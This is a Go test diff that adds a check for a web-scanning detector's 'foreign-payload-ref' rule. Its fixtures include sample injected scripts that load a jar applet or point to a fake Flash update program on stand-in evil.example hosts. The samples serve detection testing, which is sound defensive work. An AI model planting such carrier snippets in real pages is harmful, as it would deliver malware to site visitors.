@@ -101,3 +101,38 @@ func FuzzScanPlugins(f *testing.F) {
 		}
 	})
 }
+
+// A script naming another site's plug-in file or program, or another
+// site's script naming one, is a carrier; a site's own script naming its
+// own download is not.
+func TestForeignPayloadRef(t *testing.T) {
+	page := "http://www.example.org/index.html"
+	rules := func(scriptURL, body string) []string {
+		in := &Input{C: &crawl.Capture{URL: page, FinalURL: page, Resources: []crawl.Resource{
+			{URL: page, Type: crawl.TypeDocument, Body: []byte(`<html><body><p>hello</p><script src="` + scriptURL + `"></script></body></html>`)},
+			{URL: scriptURL, Type: crawl.TypeScript, Body: []byte(body), Parent: page},
+		}}, Site: SiteOf("www.example.org")}
+		var rs []string
+		for _, r := range NewScript().Detect(context.Background(), in) {
+			rs = append(rs, r.Rule+" "+r.Evidence)
+		}
+		return rs
+	}
+	for _, c := range []struct {
+		name, script, body, want string // want: "" = no foreign-payload-ref
+	}{
+		{"another site's applet", "http://www.example.org/js/menu.js", `document.write('<applet archive="http://cdn.evil.example/g.jar" code="a.class"></applet>');`, "foreign-payload-ref http://cdn.evil.example/g.jar"},
+		{"another site's script names a program", "http://cdn.evil.example/u.js", `var u = "//dl.evil.example/flash_update.exe"; setTimeout(go, 100);`, "foreign-payload-ref http://dl.evil.example/flash_update.exe"},
+		{"own download", "http://www.example.org/js/dl.js", `var u = "https://downloads.example.org/tool-1.2.msi";`, ""},
+		{"no payload", "http://cdn.other.example/lib.js", `var u = "https://cdn.other.example/fonts/a.woff2";`, ""},
+	} {
+		got := rules(c.script, c.body)
+		has := slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, "foreign-payload-ref") })
+		switch {
+		case c.want == "" && has:
+			t.Errorf("%s: %v", c.name, got)
+		case c.want != "" && !slices.Contains(got, c.want):
+			t.Errorf("%s: %v, want %q", c.name, got, c.want)
+		}
+	}
+}
